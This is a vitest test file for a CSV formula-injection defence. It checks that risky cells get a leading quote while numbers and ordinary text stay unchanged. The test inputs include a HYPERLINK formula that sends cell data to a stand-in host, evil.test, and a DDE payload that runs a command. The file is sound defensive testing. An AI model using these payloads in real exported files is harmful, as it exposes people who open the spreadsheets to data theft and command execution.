import { describe, expect, it } from 'vitest';
import { neutraliseCsvCell, neutraliseCsvRows } from './csv-cell';

describe('a CSV cell', () => {
	it('that could start a formula is written as text, with a quote before it', () => {
		for (const cell of [
			'=HYPERLINK("http://evil.test/?"&A2,"Click")',
			'+1+1',
			"-1+cmd|' /C calc'!A0",
			'@SUM(A1:A2)',
			'\t=1+1',
			'\r=1+1',
			'-',
			'+44 20 7946 0000',
			'-3 days'
		]) {
			expect(neutraliseCsvCell(cell)).toBe(`'${cell}`);
		}
	});

	it('that is a number stays a number, negative or not', () => {
		for (const cell of ['-3', '0', '12', '-12.5', '70']) expect(neutraliseCsvCell(cell)).toBe(cell);
		expect(neutraliseCsvCell(-3)).toBe('-3');
		expect(neutraliseCsvCell(4.5)).toBe('4.5');
	});

	it('that is ordinary text is left alone, even with a formula character later on', () => {
		for (const cell of ['Ann Chair', 'Police', 'a=b', 'Health (0-5)', '', ' =1', "'=1"])
			expect(neutraliseCsvCell(cell)).toBe(cell);
	});

	it('is neutralised in every row and column', () => {
		expect(
			neutraliseCsvRows([
				['Chair', 'Children'],
				['=1+1', '-3'],
				['@x', 4]
			])
		).toEqual([
			['Chair', 'Children'],
			["'=1+1", '-3'],
			["'@x", '4']
		]);
	});
});
